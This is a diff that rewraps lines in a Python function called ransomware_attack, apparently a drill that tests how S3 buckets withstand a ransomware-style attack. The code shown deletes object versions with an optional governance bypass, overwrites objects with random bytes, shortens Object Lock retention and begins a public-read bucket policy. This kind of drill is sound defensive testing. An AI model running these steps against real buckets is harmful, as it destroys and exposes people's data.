@@ -139,10 +139,12 @@ def ransomware_attack(run: Any, bypassGovernance: bool = False, attackerRole: st
                 Bucket=bucket, Key=item["key"], VersionId=v, **bypass))
     for item in known:                                                  # 2
         junk = os.urandom(max(min(item["size"], 4096), 64))
-        tally.call("overwrite", bucket, lambda i=item, j=junk: attacker_s3.put_object(Bucket=bucket, Key=i["key"], Body=j))
+        tally.call("overwrite", bucket, lambda i=item, j=junk: attacker_s3.put_object(
+            Bucket=bucket, Key=i["key"], Body=j))
     until = ctx.clock.now() + timedelta(minutes=1)
     for item in known:                                                  # 3
-        tally.call("shorten-retention", bucket, lambda i=item: _shorten(s3, attacker_s3, bucket, i, until, bypass))
+        tally.call("shorten-retention", bucket, lambda i=item: _shorten(
+            s3, attacker_s3, bucket, i, until, bypass))
     tally.call("remove-lock-default", bucket, lambda: attacker_s3.put_object_lock_configuration(   # 4
         Bucket=bucket, ObjectLockConfiguration={"ObjectLockEnabled": "Enabled"}))
     public = {"Version": "2012-10-17", "Statement": [{"Sid": "AttackerPublicRead", "Effect": "Allow", "Principal": "*",
@@ -187,7 +189,8 @@ def _versions_of(s3: Any, bucket: str, key: str) -> list[str]:
     return found + [m["VersionId"] for m in resp.get("DeleteMarkers", []) if m["Key"] == key]
 
 
-def _shorten(s3: Any, attacker_s3: Any, bucket: str, item: dict[str, Any], until: Any, bypass: dict[str, Any]) -> None:
+def _shorten(s3: Any, attacker_s3: Any, bucket: str, item: dict[str, Any], until: Any,
+             bypass: dict[str, Any]) -> None:
     """Read the retention with the drill's client, shorten it with the attacker's."""
     current = s3.get_object_retention(Bucket=bucket, Key=item["key"], VersionId=item["version_id"])["Retention"]
     attacker_s3.put_object_retention(Bucket=bucket, Key=item["key"], VersionId=item["version_id"],
